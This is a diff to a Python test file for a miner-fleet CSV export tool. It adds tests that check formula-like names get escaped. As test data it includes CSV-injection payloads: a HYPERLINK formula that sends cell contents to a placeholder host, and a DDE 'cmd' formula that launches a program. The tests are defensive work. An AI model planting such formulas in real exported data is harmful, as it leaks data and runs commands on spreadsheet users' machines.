@@ -1,5 +1,6 @@
 """N-import: a fleet comes from CSV, a scan or another manager's export, and goes round."""
 
+import csv
 import io
 from collections.abc import Mapping
 
@@ -189,9 +190,10 @@ entries = st.builds(
         st.integers(1, 65_535),
     ),
     transport=st.sampled_from(["http", "tcp", "auto"]),
-    model=st.none() | st.sampled_from(["Antminer L9", 'L7, "blue"', "Ä;|"]),
+    model=st.none()
+    | st.sampled_from(["Antminer L9", 'L7, "blue"', "Ä;|", "=1+1", "'-x", "'L7'", "''@"]),
     algorithm=st.none() | st.sampled_from(["scrypt", "sha256d"]),
-    workers=st.lists(st.sampled_from(["a", "b.c"]), max_size=2).map(tuple),
+    workers=st.lists(st.sampled_from(["a", "b.c", "+d"]), max_size=2).map(tuple),
     tariff_usd_per_kwh=st.none() | st.floats(0, 1),
     interval_s=st.none() | st.floats(1, 1000),
     priority=st.integers(-10, 10),
@@ -205,6 +207,26 @@ def test_what_is_written_is_read_back_alike(entry: InventoryEntry) -> None:
     write_table(Fleet({}, {entry.miner_id: entry}), out)
     found = wanted(out.getvalue(), site=None).fleet.miners[entry.miner_id]
     assert found == entry
+
+
+@pytest.mark.parametrize(
+    "model", ['=HYPERLINK("http://x/?"&A1,"L9")', "=cmd|'/c calc'!A1", "+1", "-1", "@SUM(A1)"]
+)
+def test_no_name_that_a_miner_gives_itself_is_a_formula_in_a_spreadsheet(model: str) -> None:
+    entry = InventoryEntry(
+        miner_id="m-1", site_id="s-1", address="10.0.0.1:80", model=model, workers=(model, "a")
+    )
+    out = io.StringIO()
+    write_table(Fleet({}, {entry.miner_id: entry}), out)
+    header, cells = csv.reader(io.StringIO(out.getvalue()))
+    row = dict(zip(header, cells, strict=True))
+    assert row["model"] == f"'{model}"
+    assert row["workers"].startswith("'")
+
+
+def test_a_password_that_looks_like_a_formula_in_quotes_stays_as_it_is() -> None:
+    read = wanted("name,ip,user,pass\nm-1,10.0.0.1,'=u,'=p\n")
+    assert read.credentials == {"m-1": {"username": "'=u", "password": "'=p"}}
 
 
 @given(st.text(max_size=200))
